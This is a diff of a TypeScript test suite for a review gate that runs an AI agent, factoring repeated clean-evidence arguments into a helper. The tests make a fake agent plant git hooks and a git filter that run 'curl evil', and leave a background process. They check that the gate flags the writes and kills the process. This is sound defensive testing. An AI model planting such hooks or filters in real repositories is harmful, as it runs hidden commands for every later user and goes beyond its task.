@@ -57,6 +57,14 @@ function secretsRepo(): string {
 }
 const isSecretFile = (repo: string) => (f: string) => [...SECRET_FILES, '.env'].some((s) => f === join(repo, s));
 
+/** The fake agent's arguments that write a complete, clean review of makeCartRepo's one file. */
+const cleanEvidence = (hash: string) => [
+  '--write-output',
+  `findings=${JSON.stringify({ schema: 'bmad-plus/review-findings/1', scopeSha256: hash, findings: [] })}`,
+  '--write-output',
+  `coverage=${JSON.stringify({ schema: 'bmad-plus/review-coverage/1', scopeSha256: hash, items: [{ path: 'src/cart.js', outcome: 'completed' }], run: { stop: 'completed' } })}`,
+];
+
 /** review-gate with the fake agent (docs/agent.md's custom-runner contract) and these arguments. */
 function gateWithAgent(
   repo: string,
@@ -307,15 +315,14 @@ describe('#31 #32 #33 the agent: its configuration, its arguments, what it leave
     const repo = makeCartRepo();
     expect(cli(repo, ['review', 'scope', 'bg', '--dispatch', 'one']).code).toBe(0); // one run: attempts/1
     const hash = scopeHashOf(repo, 'bg');
-    const evidence = [
-      '--write-output',
-      `findings=${JSON.stringify({ schema: 'bmad-plus/review-findings/1', scopeSha256: hash, findings: [] })}`,
-      '--write-output',
-      `coverage=${JSON.stringify({ schema: 'bmad-plus/review-coverage/1', scopeSha256: hash, items: [{ path: 'src/cart.js', outcome: 'completed' }], run: { stop: 'completed' } })}`,
-    ];
-    const r = await gateWithAgent(repo, 'bg', ['--background', '--write', '.git/hooks/pre-commit=#!/bin/sh\ncurl evil', ...evidence], {
-      isolate: 'none',
-    });
+    const r = await gateWithAgent(
+      repo,
+      'bg',
+      ['--background', '--write', '.git/hooks/pre-commit=#!/bin/sh\ncurl evil', ...cleanEvidence(hash)],
+      {
+        isolate: 'none',
+      },
+    );
     expect(r.outputs).toMatchObject({ verdict: 'incomplete', 'exit-code': '2' });
     expect(r.summary).toMatch(/the agent changed files outside findings\.json and coverage\.json: \.git\/hooks\/pre-commit(?!,)/);
     expect(r.stdout).toMatch(/1 leftover process\(es\) killed/);
@@ -342,18 +349,7 @@ describe('#329 git settings an unconfined agent leaves for every later git', () 
       '.git/modules/lib/config=[filter "pg"] clean = curl evil',
       '.git/modules/lib/hooks/post-checkout=curl evil',
     ];
-    const r = await gateWithAgent(
-      repo,
-      'gs',
-      [
-        ...planted.flatMap((p) => ['--write', p]),
-        '--write-output',
-        `findings=${JSON.stringify({ schema: 'bmad-plus/review-findings/1', scopeSha256: hash, findings: [] })}`,
-        '--write-output',
-        `coverage=${JSON.stringify({ schema: 'bmad-plus/review-coverage/1', scopeSha256: hash, items: [{ path: 'src/cart.js', outcome: 'completed' }], run: { stop: 'completed' } })}`,
-      ],
-      { isolate: 'none' },
-    );
+    const r = await gateWithAgent(repo, 'gs', [...planted.flatMap((p) => ['--write', p]), ...cleanEvidence(hash)], { isolate: 'none' });
     expect(r.outputs).toMatchObject({ verdict: 'incomplete', 'exit-code': '2' });
     for (const p of ['.git/config.worktree', '.git/info/attributes', '.git/modules/lib/config', '.git/modules/lib/hooks/post-checkout'])
       expect(r.summary).toContain(p);
@@ -377,13 +373,7 @@ describe('#329 git settings an unconfined agent leaves for every later git', () 
     const r = await gateWithAgent(
       repo,
       'gu',
-      [
-        ...planted.flatMap((p) => ['--write', p]),
-        '--write-output',
-        `findings=${JSON.stringify({ schema: 'bmad-plus/review-findings/1', scopeSha256: hash, findings: [] })}`,
-        '--write-output',
-        `coverage=${JSON.stringify({ schema: 'bmad-plus/review-coverage/1', scopeSha256: hash, items: [{ path: 'src/cart.js', outcome: 'completed' }], run: { stop: 'completed' } })}`,
-      ],
+      [...planted.flatMap((p) => ['--write', p]), ...cleanEvidence(hash)],
       { isolate: 'none' },
       { HOME: home },
     );
